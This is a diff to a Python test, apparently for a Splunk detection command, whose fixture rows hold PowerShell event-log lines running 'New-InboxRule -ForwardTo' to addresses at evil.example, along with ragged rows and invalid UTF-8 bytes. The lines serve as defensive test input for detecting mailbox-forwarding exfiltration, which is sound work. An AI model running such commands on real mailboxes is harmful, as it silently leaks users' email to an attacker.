@@ -149,7 +149,8 @@ def test_ragged_rows_and_invalid_utf8(built_app):
             b"XmlWinEventLog,4104,New-InboxRule -Name a -ForwardTo w@evil.example\r\n"
             b"short\r\n"
             b"\r\n"
-            b"XmlWinEventLog,4104,caf\xe9 \xff New-InboxRule -ForwardTo z@evil.example,,\r\n")
+            # The invalid bytes stand in a statement of their own: New-InboxRule must be in command position.
+            b"XmlWinEventLog,4104,caf\xe9 \xff; New-InboxRule -ForwardTo z@evil.example,,\r\n")
     outputs = []
     for env in (None, SPLUNKLIB):
         with ChunkedCommand(script_path(built_app), ["mode=all"], env=env) as command:
